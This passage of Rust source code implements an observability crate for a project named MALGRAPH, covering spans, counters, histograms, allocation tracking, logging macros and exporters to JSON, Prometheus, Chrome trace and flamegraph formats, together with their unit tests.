        assert_eq!(get(&p2, "span/build/parse/alloc_bytes").unwrap().kind, MetricKind::Count);
        // Diffing v1 against v2 treats the new self/alloc fields as added.
        let report = diff(&p1, &p2, &Thresholds::default());
        assert!(!report.has_regressions());
        assert!(PerfProfile::from_json_str("bad", r#"{"schema": "malgraph-obs/9"}"#).is_err());
    }

    #[test]
    fn injected_ten_percent_regression_is_caught() {
        // The acceptance-criteria shape: a quick-bench snapshot with one
        // stage time inflated by 10%+ must fail, identical must pass.
        let base_text = r#"{"full_build_ms": 1000, "delta_ingest_ms": 130, "reps": 3}"#;
        let slow_text = r#"{"full_build_ms": 1101, "delta_ingest_ms": 130, "reps": 3}"#;
        let base = PerfProfile::from_json_str("base", base_text).unwrap();
        let slow = PerfProfile::from_json_str("slow", slow_text).unwrap();
        let th = Thresholds::default();
        assert!(!diff(&base, &base, &th).has_regressions());
        let report = diff(&base, &slow, &th);
        assert!(report.has_regressions());
        let rendered = report.render(false);
        assert!(rendered.contains("full_build_ms"));
        assert!(rendered.contains("REGRESSED"));
        assert!(rendered.starts_with("perf diff: base -> slow"));
        assert!(rendered.trim_end().ends_with("1 regressed, 0 improved, 0 added, 0 removed"));
        assert!(rendered.contains("FAIL"));
    }
}
