//! Observability spine for the MALGRAPH reproduction.
//!
//! One global registry shared by every pipeline crate, providing three
//! primitives:
//!
//! * **Spans** — hierarchical-by-name timing guards
//!   (`obs::span!("build/similar/ecosystem={eco}")`) measured through a
//!   pluggable [`Clock`]. The path convention uses `/` for stage nesting
//!   and `key=value` segments for dimensions; the given name *is* the
//!   full path (no implicit parent prefixing), so the same code reports
//!   the same path from every entry point.
//! * **Metrics** — named counters, gauges, and fixed-bucket histograms
//!   ([`BUCKET_BOUNDS`]: 1-2-5 per decade). Labels ride inside the name
//!   as a `{key=value}` suffix, e.g. `build.edges_added{relation=similar}`.
//! * **Profiling** — every span tracks *self* time (wall time minus
//!   child spans) alongside total time, and binaries that install
//!   [`alloc::CountingAlloc`] can charge allocation bytes/calls to the
//!   innermost open span ([`alloc`]). Spans nest through a thread-local
//!   stack; [`current_context`] / [`SpanContext::attach`] carry the
//!   logical stack across worker-thread spawns so profiles are
//!   identical at any thread count, and [`detached`] roots spans whose
//!   triggering caller is scheduling-dependent (lazy caches).
//! * **Exporters** — [`Snapshot::to_json`] (schema `malgraph-obs/2`),
//!   [`Snapshot::to_prometheus`] (text exposition format),
//!   [`Snapshot::to_chrome_trace`] (Perfetto-loadable trace events),
//!   and [`Snapshot::to_folded`] (flamegraph.pl-compatible collapsed
//!   stacks, byte-stable under [`FakeClock`]).
//! * **Baselines** — [`baseline`] loads snapshot or bench JSON into
//!   [`baseline::PerfProfile`]s and diffs them under noise thresholds,
//!   powering `malgraph perf diff` and the CI perf gate.
//!
//! # Overhead policy
//!
//! The registry is **off by default**. Disabled call sites cost one
//! relaxed atomic load — `span!` does not even format its name — so
//! instrumentation stays in hot paths permanently. Enabled call sites
//! write to thread-local shards; shards fold into the global accumulator
//! on thread exit or snapshot. Every merged quantity is a `u64` addition,
//! so merge order (i.e. thread scheduling) cannot change a snapshot, and
//! instrumentation never alters pipeline output: instrumented runs are
//! bitwise-identical to uninstrumented ones at any thread count.
//!
//! ```
//! obs::enable();
//! obs::reset();
//! let span = obs::span!("demo/stage");
//! obs::counter_add("demo.items", 3);
//! obs::histogram_record("demo.latency_ms", 17);
//! let elapsed = span.finish();
//! assert!(elapsed >= std::time::Duration::ZERO);
//! let snap = obs::snapshot();
//! assert_eq!(snap.counters, vec![("demo.items".to_string(), 3)]);
//! obs::disable();
//! ```

// deny (not forbid) so the one GlobalAlloc module can carve itself out.
#![deny(unsafe_code)]
#![warn(missing_docs)]

pub mod alloc;
pub mod baseline;
mod clock;
mod export;
mod log;
mod registry;

pub use clock::{Clock, FakeClock, RealClock};
pub use export::{FoldedFrame, HistogramSnapshot, Snapshot, SpanAggregate, SpanEvent};
pub use log::{log_at, log_enabled, log_level, set_log_level, Level};
pub use registry::{
    counter_add, current_context, detached, disable, enable, enable_with_clock, enabled,
    gauge_set, histogram_record, now_micros, reset, snapshot, span_total_micros, ContextGuard,
    Span, SpanContext, BUCKET_BOUNDS,
};

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::{Arc, Mutex, OnceLock};

    // Install the counting allocator in the unit-test binary so the
    // allocation-attribution tests exercise the real sampling path.
    #[global_allocator]
    static TEST_ALLOC: alloc::CountingAlloc = alloc::CountingAlloc::new();

    /// The registry is global; tests that enable/reset it serialize here.
    fn lock() -> std::sync::MutexGuard<'static, ()> {
        static LOCK: OnceLock<Mutex<()>> = OnceLock::new();
        LOCK.get_or_init(|| Mutex::new(())).lock().unwrap_or_else(|e| e.into_inner())
    }

    #[test]
    fn disabled_registry_records_nothing_and_spans_measure_zero() {
        let _guard = lock();
        disable();
        reset();
        counter_add("x", 5);
        gauge_set("g", 1.0);
        histogram_record("h", 10);
        let span = span!("never/{}", "formatted");
        assert_eq!(span.finish(), std::time::Duration::ZERO);
        let snap = snapshot();
        assert!(snap.counters.is_empty());
        assert!(snap.gauges.is_empty());
        assert!(snap.histograms.is_empty());
        assert!(snap.spans.is_empty());
        assert!(snap.events.is_empty());
    }

    #[test]
    fn histogram_bucket_boundaries_are_inclusive_upper_bounds() {
        let _guard = lock();
        enable();
        reset();
        // Exactly on a bound → that bucket; one past → the next bucket.
        for value in [1, 2, 5, 10, 1_000, 1_000_000] {
            histogram_record("bounds", value);
        }
        histogram_record("bounds", 3); // inside (2, 5]
        histogram_record("bounds", 1_000_001); // overflow
        histogram_record("bounds", 0); // below the first bound → first bucket
        let snap = snapshot();
        disable();
        let hist = &snap.histograms[0];
        assert_eq!(hist.name, "bounds");
        assert_eq!(hist.count, 9);
        assert_eq!(hist.min, 0);
        assert_eq!(hist.max, 1_000_001);
        assert_eq!(hist.sum, 1 + 2 + 5 + 10 + 1_000 + 1_000_000 + 3 + 1_000_001);
        let idx = |bound: u64| BUCKET_BOUNDS.iter().position(|b| *b == bound).unwrap();
        assert_eq!(hist.buckets[idx(1)], 2, "0 and 1 both land in le=1");
        assert_eq!(hist.buckets[idx(2)], 1);
        assert_eq!(hist.buckets[idx(5)], 2, "3 and 5 land in le=5");
        assert_eq!(hist.buckets[idx(10)], 1);
        assert_eq!(hist.buckets[idx(1_000)], 1);
        assert_eq!(hist.buckets[idx(1_000_000)], 1);
        assert_eq!(*hist.buckets.last().unwrap(), 1, "1_000_001 overflows");
        assert_eq!(hist.buckets.iter().sum::<u64>(), hist.count);
    }

    #[test]
    fn shard_merge_is_deterministic_across_thread_counts() {
        let _guard = lock();
        let run = |threads: usize| {
            enable();
            reset();
            std::thread::scope(|scope| {
                for t in 0..threads {
                    scope.spawn(move || {
                        // Each unit of work is keyed by its index, not its
                        // thread, so any partition yields the same totals.
                        for i in (t..64).step_by(threads) {
                            counter_add("work.items", 1);
                            counter_add(&format!("work.bucket{{mod={}}}", i % 3), i as u64);
                            histogram_record("work.cost", (i as u64 % 7) * 100);
                        }
                    });
                }
            });
            let snap = snapshot();
            disable();
            (snap.counters, snap.histograms)
        };
        let single = run(1);
        for threads in [2, 3, 8] {
            assert_eq!(run(threads), single, "{threads} threads must merge identically");
        }
    }

    #[test]
    fn spans_record_events_aggregates_and_return_durations() {
        let _guard = lock();
        let clock = Arc::new(FakeClock::new());
        enable_with_clock(clock.clone());
        reset();
        clock.set_micros(50);
        let outer = span!("stage/{}", "outer");
        clock.advance_micros(10);
        let inner = span!("stage/inner");
        clock.advance_micros(30);
        assert_eq!(inner.finish(), std::time::Duration::from_micros(30));
        clock.advance_micros(5);
        drop(outer); // records 45µs via Drop
        let total = span_total_micros("stage/outer");
        let snap = snapshot();
        disable();
        assert_eq!(total, 45);
        assert_eq!(snap.spans.len(), 2);
        assert_eq!(snap.events.len(), 2);
        let inner_event = snap.events.iter().find(|e| e.name == "stage/inner").unwrap();
        assert_eq!((inner_event.start_us, inner_event.dur_us), (60, 30));
        let outer_agg = snap.spans.iter().find(|s| s.name == "stage/outer").unwrap();
        assert_eq!((outer_agg.count, outer_agg.total_us), (1, 45));
    }

    #[test]
    fn reset_clears_everything() {
        let _guard = lock();
        enable();
        reset();
        counter_add("c", 1);
        gauge_set("g", 2.0);
        histogram_record("h", 3);
        span!("s").finish();
        reset();
        let snap = snapshot();
        disable();
        assert!(snap.counters.is_empty());
        assert!(snap.gauges.is_empty());
        assert!(snap.histograms.is_empty());
        assert!(snap.spans.is_empty());
        assert!(snap.events.is_empty());
        assert_eq!(snap.events_dropped, 0);
    }

    #[test]
    fn self_time_splits_parent_and_child_and_folds_stacks() {
        let _guard = lock();
        let clock = Arc::new(FakeClock::new());
        enable_with_clock(clock.clone());
        reset();
        clock.set_micros(100);
        let outer = span!("p/outer");
        clock.advance_micros(10);
        let inner = span!("p/inner");
        clock.advance_micros(30);
        inner.finish();
        clock.advance_micros(5);
        drop(outer); // total 45µs, of which 30µs belong to the child
        let snap = snapshot();
        disable();
        let agg = |name: &str| snap.spans.iter().find(|s| s.name == name).unwrap();
        assert_eq!((agg("p/outer").total_us, agg("p/outer").self_us), (45, 15));
        assert_eq!((agg("p/inner").total_us, agg("p/inner").self_us), (30, 30));
        assert_eq!(snap.to_folded(), "p/outer 15\np/outer;p/inner 30\n");
    }

    #[test]
    fn span_context_carries_the_stack_across_threads() {
        let _guard = lock();
        let run = |spawn: bool| {
            let clock = Arc::new(FakeClock::new());
            enable_with_clock(clock.clone());
            reset();
            clock.set_micros(0);
            let root = span!("root");
            clock.advance_micros(10);
            let work = || {
                let child = span!("child");
                clock.advance_micros(7);
                child.finish();
            };
            if spawn {
                let ctx = current_context();
                std::thread::scope(|scope| {
                    scope.spawn(|| {
                        let _attached = ctx.attach();
                        work();
                    });
                });
            } else {
                work();
            }
            drop(root); // total 17µs, child 7µs → self 10µs
            let snap = snapshot();
            disable();
            (snap.to_folded(), snap.spans.clone())
        };
        let inline = run(false);
        let threaded = run(true);
        assert_eq!(inline.0, "root 10\nroot;child 7\n");
        assert_eq!(inline, threaded, "worker spans must fold under the captured parent");
    }

    #[test]
    fn detached_spans_root_at_top_level_and_skip_parent_charging() {
        let _guard = lock();
        let clock = Arc::new(FakeClock::new());
        enable_with_clock(clock.clone());
        reset();
        clock.set_micros(0);
        let caller = span!("caller");
        {
            let _barrier = detached();
            let lazy = span!("lazy/init");
            clock.advance_micros(40);
            lazy.finish();
        }
        clock.advance_micros(2);
        drop(caller);
        let snap = snapshot();
        disable();
        let caller_agg = snap.spans.iter().find(|s| s.name == "caller").unwrap();
        // The detached child's 40µs elapse on the same clock, so they are
        // inside caller's wall time but must NOT be subtracted as child
        // time — the lazy span is attributed as its own root.
        assert_eq!((caller_agg.total_us, caller_agg.self_us), (42, 42));
        assert_eq!(snap.to_folded(), "caller 42\nlazy/init 40\n");
    }

    #[test]
    fn alloc_tracking_charges_bytes_to_the_active_span() {
        let _guard = lock();
        enable();
        reset();
        alloc::enable_tracking();
        let (b0, a0) = alloc::thread_totals();
        let outer = span!("mem/outer");
        let inner = span!("mem/inner");
        let block = std::hint::black_box(vec![0u8; 1 << 16]);
        inner.finish();
        drop(block);
        outer.finish();
        let (b1, a1) = alloc::thread_totals();
        alloc::disable_tracking();
        let snap = snapshot();
        disable();
        assert!(b1 - b0 >= 1 << 16, "thread totals must see the 64 KiB block");
        assert!(a1 > a0);
        let agg = |name: &str| snap.spans.iter().find(|s| s.name == name).unwrap();
        assert!(agg("mem/inner").alloc_bytes >= 1 << 16, "inner owns the block");
        assert!(agg("mem/inner").allocs >= 1);
        assert!(
            agg("mem/outer").alloc_bytes < 1 << 16,
            "child allocations must not double-charge the parent (outer self = {})",
            agg("mem/outer").alloc_bytes
        );
        let folded_alloc = snap.to_folded_alloc();
        let inner_line = folded_alloc
            .lines()
            .find(|l| l.starts_with("mem/outer;mem/inner "))
            .expect("folded alloc profile has the nested frame");
        let weight: u64 = inner_line.rsplit(' ').next().unwrap().parse().unwrap();
        assert!(weight >= 1 << 16);
    }

    #[test]
    fn alloc_tracking_disabled_reports_zero_deltas() {
        let _guard = lock();
        enable();
        reset();
        let span = span!("mem/quiet");
        let _v = std::hint::black_box(vec![0u8; 4096]);
        span.finish();
        let snap = snapshot();
        disable();
        let agg = snap.spans.iter().find(|s| s.name == "mem/quiet").unwrap();
        assert_eq!((agg.alloc_bytes, agg.allocs), (0, 0));
    }

    #[test]
    fn log_levels_parse_and_order() {
        assert_eq!("info".parse::<Level>().unwrap(), Level::Info);
        assert_eq!("WARN".parse::<Level>().unwrap(), Level::Warn);
        assert!("loud".parse::<Level>().is_err());
        assert!(Level::Error < Level::Trace);
        set_log_level(Level::Warn);
        assert!(log_enabled(Level::Error));
        assert!(log_enabled(Level::Warn));
        assert!(!log_enabled(Level::Info));
        set_log_level(Level::Off);
        assert!(!log_enabled(Level::Error));
    }
}
