//! Pluggable time source for spans.
//!
//! Production uses [`RealClock`] (monotonic, relative to the instant the
//! clock was constructed); tests use [`FakeClock`] so span timestamps and
//! durations are fully deterministic and export golden tests can pin
//! exact byte-for-byte output.

use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Instant;

/// A monotonic microsecond counter. Implementations must be cheap: the
/// registry calls [`Clock::micros`] twice per span.
pub trait Clock: Send + Sync {
    /// Microseconds elapsed since this clock's epoch.
    fn micros(&self) -> u64;
}

/// Wall-clock time relative to the clock's construction instant.
pub struct RealClock {
    epoch: Instant,
}

impl RealClock {
    /// A clock whose epoch is "now".
    pub fn new() -> RealClock {
        RealClock { epoch: Instant::now() }
    }
}

impl Default for RealClock {
    fn default() -> RealClock {
        RealClock::new()
    }
}

impl Clock for RealClock {
    fn micros(&self) -> u64 {
        self.epoch.elapsed().as_micros() as u64
    }
}

/// A manually-advanced clock for deterministic tests.
pub struct FakeClock {
    now: AtomicU64,
}

impl FakeClock {
    /// A fake clock starting at zero microseconds.
    pub fn new() -> FakeClock {
        FakeClock { now: AtomicU64::new(0) }
    }

    /// Jump the clock to an absolute microsecond value.
    pub fn set_micros(&self, micros: u64) {
        self.now.store(micros, Ordering::SeqCst);
    }

    /// Advance the clock by a relative number of microseconds.
    pub fn advance_micros(&self, micros: u64) {
        self.now.fetch_add(micros, Ordering::SeqCst);
    }
}

impl Default for FakeClock {
    fn default() -> FakeClock {
        FakeClock::new()
    }
}

impl Clock for FakeClock {
    fn micros(&self) -> u64 {
        self.now.load(Ordering::SeqCst)
    }
}
