//! Minimal leveled logging to stderr, gated by a global level.
//!
//! Pipeline crates log through the [`crate::error!`] … [`crate::trace!`]
//! macros; the CLI sets the threshold from `--log-level`. The default
//! level is [`Level::Off`], so an uninstrumented run prints nothing and
//! each disabled call site pays one atomic load.

use std::fmt;
use std::str::FromStr;
use std::sync::atomic::{AtomicU8, Ordering};

static LOG_LEVEL: AtomicU8 = AtomicU8::new(0);

/// Log severity threshold, most to least severe.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
#[repr(u8)]
pub enum Level {
    /// No logging at all (the default).
    Off = 0,
    /// Unrecoverable or data-losing conditions.
    Error = 1,
    /// Degraded but recovered conditions (e.g. retried fetches).
    Warn = 2,
    /// Stage-level progress.
    Info = 3,
    /// Per-item detail.
    Debug = 4,
    /// Everything, including hot-loop detail.
    Trace = 5,
}

impl Level {
    /// Fixed-width lowercase label used in log line prefixes.
    pub fn label(self) -> &'static str {
        match self {
            Level::Off => "off",
            Level::Error => "error",
            Level::Warn => "warn",
            Level::Info => "info",
            Level::Debug => "debug",
            Level::Trace => "trace",
        }
    }

    fn from_u8(value: u8) -> Level {
        match value {
            1 => Level::Error,
            2 => Level::Warn,
            3 => Level::Info,
            4 => Level::Debug,
            5 => Level::Trace,
            _ => Level::Off,
        }
    }
}

impl fmt::Display for Level {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

impl FromStr for Level {
    type Err = String;

    fn from_str(s: &str) -> Result<Level, String> {
        match s.to_ascii_lowercase().as_str() {
            "off" => Ok(Level::Off),
            "error" => Ok(Level::Error),
            "warn" | "warning" => Ok(Level::Warn),
            "info" => Ok(Level::Info),
            "debug" => Ok(Level::Debug),
            "trace" => Ok(Level::Trace),
            other => Err(format!("unknown log level `{other}` (use off|error|warn|info|debug|trace)")),
        }
    }
}

/// Set the global log threshold; messages above it are dropped.
pub fn set_log_level(level: Level) {
    LOG_LEVEL.store(level as u8, Ordering::SeqCst);
}

/// The current global log threshold.
pub fn log_level() -> Level {
    Level::from_u8(LOG_LEVEL.load(Ordering::Relaxed))
}

/// Whether a message at `level` would be emitted right now.
#[inline]
pub fn log_enabled(level: Level) -> bool {
    level != Level::Off && level as u8 <= LOG_LEVEL.load(Ordering::Relaxed)
}

/// Emit a formatted line to stderr with an elapsed-time/level prefix.
/// Callers go through the level macros, which check [`log_enabled`] first.
pub fn log_at(level: Level, args: fmt::Arguments<'_>) {
    eprintln!("[{:>10.3}ms {:>5}] {}", crate::now_micros() as f64 / 1000.0, level.label(), args);
}

/// Log at [`Level::Error`].
#[macro_export]
macro_rules! error {
    ($($arg:tt)*) => {
        if $crate::log_enabled($crate::Level::Error) {
            $crate::log_at($crate::Level::Error, format_args!($($arg)*));
        }
    };
}

/// Log at [`Level::Warn`].
#[macro_export]
macro_rules! warn {
    ($($arg:tt)*) => {
        if $crate::log_enabled($crate::Level::Warn) {
            $crate::log_at($crate::Level::Warn, format_args!($($arg)*));
        }
    };
}

/// Log at [`Level::Info`].
#[macro_export]
macro_rules! info {
    ($($arg:tt)*) => {
        if $crate::log_enabled($crate::Level::Info) {
            $crate::log_at($crate::Level::Info, format_args!($($arg)*));
        }
    };
}

/// Log at [`Level::Debug`].
#[macro_export]
macro_rules! debug {
    ($($arg:tt)*) => {
        if $crate::log_enabled($crate::Level::Debug) {
            $crate::log_at($crate::Level::Debug, format_args!($($arg)*));
        }
    };
}

/// Log at [`Level::Trace`].
#[macro_export]
macro_rules! trace {
    ($($arg:tt)*) => {
        if $crate::log_enabled($crate::Level::Trace) {
            $crate::log_at($crate::Level::Trace, format_args!($($arg)*));
        }
    };
}
