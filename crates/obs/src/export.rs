//! Snapshot types and the four exporters.
//!
//! * [`Snapshot::to_json`] — the canonical machine-readable dump
//!   (schema `malgraph-obs/2`), what `--metrics-out` writes and
//!   `malgraph stats` / `malgraph perf diff` read back.
//! * [`Snapshot::to_prometheus`] — Prometheus text exposition format 0.0.4;
//!   `{key=value}` suffixes in metric names become Prometheus labels.
//! * [`Snapshot::to_chrome_trace`] — Chrome trace-event JSON (complete
//!   `"X"` events) loadable in `chrome://tracing` or Perfetto; spans
//!   recorded on different worker shards keep distinct `tid` rows.
//! * [`Snapshot::to_folded`] / [`Snapshot::to_folded_alloc`] — collapsed
//!   stacks (`parent;child;grandchild <self_value>` lines) consumable by
//!   flamegraph.pl or inferno, weighted by self-microseconds or
//!   self-allocated bytes.
//!
//! All output is deterministic: entries are name-sorted, events are
//! time-then-name-sorted, and trace thread ids are renumbered densely by
//! first appearance so the same workload exports the same bytes.

use crate::registry::BUCKET_BOUNDS;
use std::collections::HashMap;
use std::fmt::Write as _;

/// One closed span occurrence: where it ran and for how long.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpanEvent {
    /// Full span path, e.g. `build/similar/ecosystem=npm`.
    pub name: String,
    /// Registry-assigned ordinal of the recording thread.
    pub thread: u64,
    /// Start timestamp, microseconds on the registry clock.
    pub start_us: u64,
    /// Wall time in microseconds.
    pub dur_us: u64,
}

/// Per-name span rollup: closures, wall time, self time, and the
/// self-allocation charge (non-zero only when [`crate::alloc`] tracking
/// is active).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpanAggregate {
    /// Full span path.
    pub name: String,
    /// Number of closed occurrences.
    pub count: u64,
    /// Summed wall time in microseconds.
    pub total_us: u64,
    /// Summed self time (wall time minus child spans) in microseconds.
    pub self_us: u64,
    /// Bytes allocated while this span was the innermost open span.
    pub alloc_bytes: u64,
    /// Allocation calls charged the same way.
    pub allocs: u64,
}

/// One folded-stack profile line: a full `parent;child;…` path with its
/// accumulated self time and self allocations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FoldedFrame {
    /// Semicolon-joined span names from root to leaf.
    pub stack: String,
    /// Number of closures recorded at exactly this path.
    pub count: u64,
    /// Self time in microseconds accumulated at this path.
    pub self_us: u64,
    /// Self-allocated bytes accumulated at this path.
    pub alloc_bytes: u64,
    /// Self allocation calls accumulated at this path.
    pub allocs: u64,
}

/// Frozen histogram state: per-bucket counts plus summary stats.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HistogramSnapshot {
    /// Metric name.
    pub name: String,
    /// Total observations.
    pub count: u64,
    /// Sum of observed values.
    pub sum: u64,
    /// Smallest observed value (0 when empty).
    pub min: u64,
    /// Largest observed value.
    pub max: u64,
    /// Non-cumulative counts per bucket; one entry per bound in
    /// [`BUCKET_BOUNDS`] plus a final overflow bucket.
    pub buckets: Vec<u64>,
}

/// A consistent, name-sorted copy of the registry, produced by
/// [`crate::snapshot`].
#[derive(Debug, Clone, PartialEq)]
pub struct Snapshot {
    /// Counter name → accumulated value.
    pub counters: Vec<(String, u64)>,
    /// Gauge name → last written value.
    pub gauges: Vec<(String, f64)>,
    /// Histograms, name-sorted.
    pub histograms: Vec<HistogramSnapshot>,
    /// Span rollups, name-sorted.
    pub spans: Vec<SpanAggregate>,
    /// Folded-stack profile, stack-sorted.
    pub folded: Vec<FoldedFrame>,
    /// Raw span events, time-sorted.
    pub events: Vec<SpanEvent>,
    /// Events discarded past the retention cap.
    pub events_dropped: u64,
}

fn escape_json(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

fn fmt_f64(value: f64) -> String {
    if value.fract() == 0.0 && value.abs() < 1e15 {
        format!("{value:.1}")
    } else {
        format!("{value}")
    }
}

/// Map a metric name to a Prometheus-legal identifier: every character
/// outside `[a-zA-Z0-9_:]` becomes `_`, and a leading digit is prefixed.
fn prometheus_name(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    for (i, c) in name.chars().enumerate() {
        if c.is_ascii_alphanumeric() || c == '_' || c == ':' {
            if i == 0 && c.is_ascii_digit() {
                out.push('_');
            }
            out.push(c);
        } else {
            out.push('_');
        }
    }
    out
}

/// Split `family{key=value,key=value}` into the sanitized family name and
/// a rendered Prometheus label block (empty when the name has no labels).
fn prometheus_parts(name: &str) -> (String, String) {
    let Some(open) = name.find('{') else {
        return (prometheus_name(name), String::new());
    };
    let family = prometheus_name(&name[..open]);
    let inner = name[open + 1..].trim_end_matches('}');
    let mut labels = String::new();
    for (i, pair) in inner.split(',').enumerate() {
        let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
        if i > 0 {
            labels.push(',');
        }
        let _ = write!(
            labels,
            "{}=\"{}\"",
            prometheus_name(key.trim()),
            value.trim().replace('\\', "\\\\").replace('"', "\\\"")
        );
    }
    (family, format!("{{{labels}}}"))
}

impl Snapshot {
    /// The canonical JSON dump (schema `malgraph-obs/2`; `/2` added
    /// `self_us` / `alloc_bytes` / `allocs` to every span entry — readers
    /// accept both ids). Raw span events are not included — they live in
    /// the Chrome trace export; the folded profile lives in
    /// [`Snapshot::to_folded`].
    pub fn to_json(&self) -> String {
        let mut out = String::new();
        out.push_str("{\n  \"schema\": \"malgraph-obs/2\",\n  \"counters\": {");
        for (i, (name, value)) in self.counters.iter().enumerate() {
            let sep = if i == 0 { "\n" } else { ",\n" };
            let _ = write!(out, "{sep}    \"{}\": {value}", escape_json(name));
        }
        if !self.counters.is_empty() {
            out.push_str("\n  ");
        }
        out.push_str("},\n  \"gauges\": {");
        for (i, (name, value)) in self.gauges.iter().enumerate() {
            let sep = if i == 0 { "\n" } else { ",\n" };
            let _ = write!(out, "{sep}    \"{}\": {}", escape_json(name), fmt_f64(*value));
        }
        if !self.gauges.is_empty() {
            out.push_str("\n  ");
        }
        out.push_str("},\n  \"histograms\": {");
        for (i, hist) in self.histograms.iter().enumerate() {
            let sep = if i == 0 { "\n" } else { ",\n" };
            let buckets =
                hist.buckets.iter().map(u64::to_string).collect::<Vec<_>>().join(", ");
            let _ = write!(
                out,
                "{sep}    \"{}\": {{\"count\": {}, \"sum\": {}, \"min\": {}, \"max\": {}, \"buckets\": [{buckets}]}}",
                escape_json(&hist.name),
                hist.count,
                hist.sum,
                hist.min,
                hist.max
            );
        }
        if !self.histograms.is_empty() {
            out.push_str("\n  ");
        }
        out.push_str("},\n  \"spans\": {");
        for (i, span) in self.spans.iter().enumerate() {
            let sep = if i == 0 { "\n" } else { ",\n" };
            let _ = write!(
                out,
                "{sep}    \"{}\": {{\"count\": {}, \"total_us\": {}, \"self_us\": {}, \"alloc_bytes\": {}, \"allocs\": {}}}",
                escape_json(&span.name),
                span.count,
                span.total_us,
                span.self_us,
                span.alloc_bytes,
                span.allocs
            );
        }
        if !self.spans.is_empty() {
            out.push_str("\n  ");
        }
        let _ = write!(out, "}},\n  \"events_dropped\": {}\n}}\n", self.events_dropped);
        out
    }

    /// Folded-stack profile weighted by self time: one
    /// `parent;child;grandchild <self_us>` line per recorded stack path,
    /// path-sorted, newline-terminated — the input format of
    /// flamegraph.pl and inferno-flamegraph. Under a fake clock the
    /// output is byte-stable, so whole-pipeline profiles golden-test.
    pub fn to_folded(&self) -> String {
        let mut out = String::new();
        for frame in &self.folded {
            let _ = writeln!(out, "{} {}", frame.stack, frame.self_us);
        }
        out
    }

    /// Folded-stack profile weighted by self-allocated bytes (all zeros
    /// unless [`crate::alloc`] tracking was active). Same format and
    /// ordering as [`Snapshot::to_folded`].
    pub fn to_folded_alloc(&self) -> String {
        let mut out = String::new();
        for frame in &self.folded {
            let _ = writeln!(out, "{} {}", frame.stack, frame.alloc_bytes);
        }
        out
    }

    /// Prometheus text exposition format. Counters map to `counter`
    /// families, gauges to `gauge`, histograms to `histogram` with
    /// cumulative `_bucket{le=…}` series plus `_sum` / `_count`, and span
    /// rollups to three counter families labeled by span path.
    pub fn to_prometheus(&self) -> String {
        let mut out = String::new();
        let mut last_family = String::new();
        for (name, value) in &self.counters {
            let (family, labels) = prometheus_parts(name);
            if family != last_family {
                let _ = writeln!(out, "# TYPE {family} counter");
                last_family = family.clone();
            }
            let _ = writeln!(out, "{family}{labels} {value}");
        }
        for (name, value) in &self.gauges {
            let (family, labels) = prometheus_parts(name);
            let _ = writeln!(out, "# TYPE {family} gauge");
            let _ = writeln!(out, "{family}{labels} {}", fmt_f64(*value));
        }
        for hist in &self.histograms {
            let (family, labels) = prometheus_parts(&hist.name);
            let inner = labels.strip_prefix('{').and_then(|s| s.strip_suffix('}')).unwrap_or("");
            let prefix = if inner.is_empty() { String::new() } else { format!("{inner},") };
            let _ = writeln!(out, "# TYPE {family} histogram");
            let mut cumulative = 0;
            for (bound, count) in BUCKET_BOUNDS.iter().zip(hist.buckets.iter()) {
                cumulative += count;
                let _ = writeln!(out, "{family}_bucket{{{prefix}le=\"{bound}\"}} {cumulative}");
            }
            let _ = writeln!(out, "{family}_bucket{{{prefix}le=\"+Inf\"}} {}", hist.count);
            let _ = writeln!(out, "{family}_sum{labels} {}", hist.sum);
            let _ = writeln!(out, "{family}_count{labels} {}", hist.count);
        }
        if !self.spans.is_empty() {
            let escape = |s: &str| s.replace('\\', "\\\\").replace('"', "\\\"");
            let _ = writeln!(out, "# TYPE obs_span_total_us counter");
            for span in &self.spans {
                let _ = writeln!(
                    out,
                    "obs_span_total_us{{span=\"{}\"}} {}",
                    escape(&span.name),
                    span.total_us
                );
            }
            let _ = writeln!(out, "# TYPE obs_span_self_us counter");
            for span in &self.spans {
                let _ = writeln!(
                    out,
                    "obs_span_self_us{{span=\"{}\"}} {}",
                    escape(&span.name),
                    span.self_us
                );
            }
            let _ = writeln!(out, "# TYPE obs_span_count counter");
            for span in &self.spans {
                let _ = writeln!(
                    out,
                    "obs_span_count{{span=\"{}\"}} {}",
                    escape(&span.name),
                    span.count
                );
            }
        }
        out
    }

    /// Chrome trace-event JSON: complete (`ph:"X"`) events with
    /// microsecond `ts`/`dur`. Thread ids are renumbered densely in order
    /// of first appearance — each worker shard that recorded spans keeps
    /// its own `tid` row rather than collapsing onto one. Loadable in
    /// `chrome://tracing` and Perfetto.
    pub fn to_chrome_trace(&self) -> String {
        let mut tid_map: HashMap<u64, u64> = HashMap::new();
        let mut out = String::from("{\"displayTimeUnit\":\"ms\",\"traceEvents\":[");
        for (i, event) in self.events.iter().enumerate() {
            let next = tid_map.len() as u64 + 1;
            let tid = *tid_map.entry(event.thread).or_insert(next);
            let sep = if i == 0 { "\n" } else { ",\n" };
            let _ = write!(
                out,
                "{sep}{{\"name\":\"{}\",\"cat\":\"obs\",\"ph\":\"X\",\"ts\":{},\"dur\":{},\"pid\":1,\"tid\":{tid}}}",
                escape_json(&event.name),
                event.start_us,
                event.dur_us
            );
        }
        if !self.events.is_empty() {
            out.push('\n');
        }
        out.push_str("]}\n");
        out
    }
}
