//! The global metrics/span registry.
//!
//! Hot-path calls (`counter_add`, `histogram_record`, span close) write to
//! a thread-local shard guarded by its own (uncontended) mutex. Shards
//! register themselves in a global list, so a snapshot drains every live
//! shard directly — it does not depend on TLS destructors having run,
//! which matters because scoped-thread joins can return before thread
//! exit completes. A shard's Drop still folds any leftovers into the
//! global accumulator for threads that die between snapshots. All merged
//! quantities are `u64` additions — commutative and associative — so the
